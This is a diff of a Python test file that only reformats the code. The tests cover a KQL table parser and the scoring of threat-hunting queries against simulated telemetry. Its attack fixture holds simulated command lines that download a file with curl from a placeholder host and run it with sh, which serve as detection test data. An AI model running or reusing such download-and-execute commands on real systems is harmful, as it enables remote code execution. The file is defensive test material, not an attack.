@@ -17,15 +17,25 @@ from ctirealm.telemetry.dataset import Dataset
 from ctirealm.telemetry.schema import load_schemas
 from ctirealm.telemetry.store import Store, build_store
 
-ATTACK = {"sim": {
-    "DeviceProcessEvents": [process_event(111000000001, "curl http://x 77aa-sim"),
-                            process_event(111000000002, "sh /tmp/x 77aa-sim")],
-    "DeviceFileEvents": [{"Timestamp": "2026-03-05T10:00:01Z", "ReportId": 222000000001,
-                          "FileName": "x", "FolderPath": "/tmp/x",
-                          "DeviceName": "web01.corp.example"}],
-    "AKSAudit": [{"TimeGenerated": "2026-03-05T10:00:00Z", "AuditId": "a-1", "Verb": "get"}],
-    "AKSAuditAdmin": [{"TimeGenerated": "2026-03-05T10:00:00Z", "AuditId": "a-1", "Verb": "get"}],
-}}
+ATTACK = {
+    "sim": {
+        "DeviceProcessEvents": [
+            process_event(111000000001, "curl http://x 77aa-sim"),
+            process_event(111000000002, "sh /tmp/x 77aa-sim"),
+        ],
+        "DeviceFileEvents": [
+            {
+                "Timestamp": "2026-03-05T10:00:01Z",
+                "ReportId": 222000000001,
+                "FileName": "x",
+                "FolderPath": "/tmp/x",
+                "DeviceName": "web01.corp.example",
+            }
+        ],
+        "AKSAudit": [{"TimeGenerated": "2026-03-05T10:00:00Z", "AuditId": "a-1", "Verb": "get"}],
+        "AKSAuditAdmin": [{"TimeGenerated": "2026-03-05T10:00:00Z", "AuditId": "a-1", "Verb": "get"}],
+    }
+}
 BENIGN = {"neg": {"DeviceProcessEvents": [process_event(333000000001, "curl https://ok")]}}
 
 
@@ -44,8 +54,7 @@ def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
 def _trace(store: Store, kql: str, **kw):
     with LocalEngine.of_store(store) as engine:
         result = engine.query(kql)
-        return trace(kql, result.column_names, result.to_dicts(), engine, engine.schemas,
-                     store.labels, **kw)
+        return trace(kql, result.column_names, result.to_dicts(), engine, engine.schemas, store.labels, **kw)
 
 
 KNOWN = sorted(load_schemas(ROOT / "telemetry" / "schemas"))
@@ -53,38 +62,44 @@ KNOWN = sorted(load_schemas(ROOT / "telemetry" / "schemas"))
 
 def test_tables_read_skip_literals_and_comments() -> None:
     known = ["DeviceProcessEvents", "DeviceFileEvents", "SigninLogs"]
-    kql = ('// SigninLogs is not read\nDeviceProcessEvents | where ProcessCommandLine has '
-           '"DeviceFileEvents"')
+    kql = '// SigninLogs is not read\nDeviceProcessEvents | where ProcessCommandLine has "DeviceFileEvents"'
     assert tables_in(kql, known) == ["DeviceProcessEvents"]
     kql = "table('DeviceFileEvents') | where x == 'table(\"SigninLogs\")' // table('AuditLogs')"
     assert tables_in(kql, KNOWN) == ["DeviceFileEvents"]
 
 
-@pytest.mark.parametrize(("kql", "tables"), [
-    ("['DeviceProcessEvents'] | project ReportId", ["DeviceProcessEvents"]),
-    ('["DeviceProcessEvents"] | project ReportId', ["DeviceProcessEvents"]),
-    ('table("DeviceProcessEvents") | take 1', ["DeviceProcessEvents"]),
-    ("union DeviceProcessEvents, ['DeviceFileEvents']", ["DeviceFileEvents", "DeviceProcessEvents"]),
-    ("union withsource=T AKS* | take 1", ["AKSAudit", "AKSAuditAdmin"]),
-    ("DeviceProcessEvents | join kind=inner DeviceFileEvents on DeviceName",
-     ["DeviceFileEvents", "DeviceProcessEvents"]),
-    ("DeviceProcessEvents | lookup (SigninLogs | project Id) on $left.ReportId == $right.Id",
-     ["DeviceProcessEvents", "SigninLogs"]),
-    ("let x = AuditLogs | where 1 == 1; let unused = SigninLogs; x | take 1", ["AuditLogs"]),
-    # a let shadows a table of the same name
-    ("let DeviceProcessEvents = AuditLogs; DeviceProcessEvents | take 1", ["AuditLogs"]),
-    ("let f = () { OfficeActivity | take 1 }; f() | take 1", ["OfficeActivity"]),
-    ("let n = toscalar(SigninLogs | count); AuditLogs | where 1 < n", ["AuditLogs", "SigninLogs"]),
-    ('search in (StorageBlobLogs, AKS*) "x"', ["AKSAudit", "AKSAuditAdmin", "StorageBlobLogs"]),
-    ('search "x" | take 1', KNOWN),
-    ('find in (AuditLogs) where Id == "x"', ["AuditLogs"]),
-    ('AuditLogs | search "SigninLogs"', ["AuditLogs"]),  # after a pipe, search filters its input
-    # a parenthesised name in a predicate is a column, a pipeline in it is a subquery
-    ("AuditLogs | where (SigninLogs) == 1", ["AuditLogs"]),
-    ("AuditLogs | where Id in ((SigninLogs | project Id))", ["AuditLogs", "SigninLogs"]),
-    ("print x = 1", []),
-    (".show tables", []),
-])
+@pytest.mark.parametrize(
+    ("kql", "tables"),
+    [
+        ("['DeviceProcessEvents'] | project ReportId", ["DeviceProcessEvents"]),
+        ('["DeviceProcessEvents"] | project ReportId', ["DeviceProcessEvents"]),
+        ('table("DeviceProcessEvents") | take 1', ["DeviceProcessEvents"]),
+        ("union DeviceProcessEvents, ['DeviceFileEvents']", ["DeviceFileEvents", "DeviceProcessEvents"]),
+        ("union withsource=T AKS* | take 1", ["AKSAudit", "AKSAuditAdmin"]),
+        (
+            "DeviceProcessEvents | join kind=inner DeviceFileEvents on DeviceName",
+            ["DeviceFileEvents", "DeviceProcessEvents"],
+        ),
+        (
+            "DeviceProcessEvents | lookup (SigninLogs | project Id) on $left.ReportId == $right.Id",
+            ["DeviceProcessEvents", "SigninLogs"],
+        ),
+        ("let x = AuditLogs | where 1 == 1; let unused = SigninLogs; x | take 1", ["AuditLogs"]),
+        # a let shadows a table of the same name
+        ("let DeviceProcessEvents = AuditLogs; DeviceProcessEvents | take 1", ["AuditLogs"]),
+        ("let f = () { OfficeActivity | take 1 }; f() | take 1", ["OfficeActivity"]),
+        ("let n = toscalar(SigninLogs | count); AuditLogs | where 1 < n", ["AuditLogs", "SigninLogs"]),
+        ('search in (StorageBlobLogs, AKS*) "x"', ["AKSAudit", "AKSAuditAdmin", "StorageBlobLogs"]),
+        ('search "x" | take 1', KNOWN),
+        ('find in (AuditLogs) where Id == "x"', ["AuditLogs"]),
+        ('AuditLogs | search "SigninLogs"', ["AuditLogs"]),  # after a pipe, search filters its input
+        # a parenthesised name in a predicate is a column, a pipeline in it is a subquery
+        ("AuditLogs | where (SigninLogs) == 1", ["AuditLogs"]),
+        ("AuditLogs | where Id in ((SigninLogs | project Id))", ["AuditLogs", "SigninLogs"]),
+        ("print x = 1", []),
+        (".show tables", []),
+    ],
+)
 def test_tables_read_by_the_parser(kql: str, tables: list[str]) -> None:
     assert tables_in(kql, KNOWN) == tables
 
@@ -96,16 +111,25 @@ def test_a_query_that_does_not_parse_falls_back_to_identifiers() -> None:
 
 
 _FORMS = [
-    "{t}", "[{q}{t}{q}]", "table({q}{t}{q})", "union {t}, {t}", "union withsource=S {t}",
-    "let x = {t} | where 1 == 1;\nx", "search in ({t}) \"a\"", "print 1 | join ({t}) on $left.a == $right.b",
+    "{t}",
+    "[{q}{t}{q}]",
+    "table({q}{t}{q})",
+    "union {t}, {t}",
+    "union withsource=S {t}",
+    "let x = {t} | where 1 == 1;\nx",
+    'search in ({t}) "a"',
+    "print 1 | join ({t}) on $left.a == $right.b",
 ]
 
 
 @settings(max_examples=60, deadline=None)
-@given(table=st.sampled_from(KNOWN), form=st.sampled_from(_FORMS), quote=st.sampled_from("'\""),
-       decoy=st.sampled_from(KNOWN))
-def test_every_quoting_form_resolves_its_table(table: str, form: str, quote: str,
-                                               decoy: str) -> None:
+@given(
+    table=st.sampled_from(KNOWN),
+    form=st.sampled_from(_FORMS),
+    quote=st.sampled_from("'\""),
+    decoy=st.sampled_from(KNOWN),
+)
+def test_every_quoting_form_resolves_its_table(table: str, form: str, quote: str, decoy: str) -> None:
     head = form.format(t=table, q=quote)
     # The decoy appears only in a string literal and a comment: never read.
     kql = f"{head}\n| where Note has {quote}{decoy}{quote} // {decoy}\n| project ReportId"
@@ -115,18 +139,27 @@ def test_every_quoting_form_resolves_its_table(table: str, form: str, quote: str
 def test_id_columns_by_name_and_join_suffix() -> None:
     families = {"ReportId": ["DeviceFileEvents", "DeviceProcessEvents"]}
     assert id_columns(["ReportId", "ReportId1", "ReportIdX", "Count"], families) == {
-        "ReportId": "ReportId", "ReportId1": "ReportId"}
+        "ReportId": "ReportId",
+        "ReportId1": "ReportId",
+    }
 
 
 def test_canonical_values() -> None:
-    assert canonical(3.0) == "3" and canonical(None) == "" and canonical({"b": 1, "a": [2]}) == \
-        '{"a":[2],"b":1}' and canonical("  x ") == "x"
+    assert (
+        canonical(3.0) == "3"
+        and canonical(None) == ""
+        and canonical({"b": 1, "a": [2]}) == '{"a":[2],"b":1}'
+        and canonical("  x ") == "x"
+    )
 
 
 def test_a_join_traces_both_sides(store: Store) -> None:
-    traced = _trace(store, "DeviceProcessEvents | where ProcessCommandLine has '77aa' "
-                           "| join kind=inner (DeviceFileEvents) on DeviceName "
-                           "| project ReportId, ReportId1")
+    traced = _trace(
+        store,
+        "DeviceProcessEvents | where ProcessCommandLine has '77aa' "
+        "| join kind=inner (DeviceFileEvents) on DeviceName "
+        "| project ReportId, ReportId1",
+    )
     assert traced.traceable == ["DeviceFileEvents", "DeviceProcessEvents"]
     named = sorted(e for row in traced.events for e in row)
     assert ("DeviceFileEvents", "222000000001") in named
@@ -157,18 +190,39 @@ def test_a_shared_id_goes_to_the_preferred_table(store: Store) -> None:
 
 
 def test_the_evaluator_attributes_a_join_by_its_suffixed_id(store: Store) -> None:
-    kql = ("DeviceFileEvents | join kind=inner (DeviceProcessEvents "
-           "| where ProcessCommandLine has '77aa') on DeviceName | project ReportId, ReportId1")
+    kql = (
+        "DeviceFileEvents | join kind=inner (DeviceProcessEvents "
+        "| where ProcessCommandLine has '77aa') on DeviceName | project ReportId, ReportId1"
+    )
     with LocalEngine.of_store(store) as engine:
-        result = evaluate(kql, engine, store.labels, within_tables_read=True,
-                          expected={"DeviceProcessEvents": ["111000000001", "111000000002"],
-                                    "DeviceFileEvents": ["222000000001"]})
+        result = evaluate(
+            kql,
+            engine,
+            store.labels,
+            within_tables_read=True,
+            expected={
+                "DeviceProcessEvents": ["111000000001", "111000000002"],
+                "DeviceFileEvents": ["222000000001"],
+            },
+        )
     assert (result.tp, result.fp) == (3, 0), result.summary()
     assert result.tables == ["DeviceFileEvents", "DeviceProcessEvents"]
 
 
-_TOKENS = [*"()[]|;,'\"*=. \n", "let ", "union ", "join ", "table", "search ", "in ", "x", "//",
-           "@", "AuditLogs", "Signin*"]
+_TOKENS = [
+    *"()[]|;,'\"*=. \n",
+    "let ",
+    "union ",
+    "join ",
+    "table",
+    "search ",
+    "in ",
+    "x",
+    "//",
+    "@",
+    "AuditLogs",
+    "Signin*",
+]
 
 
 @settings(max_examples=80, deadline=None)
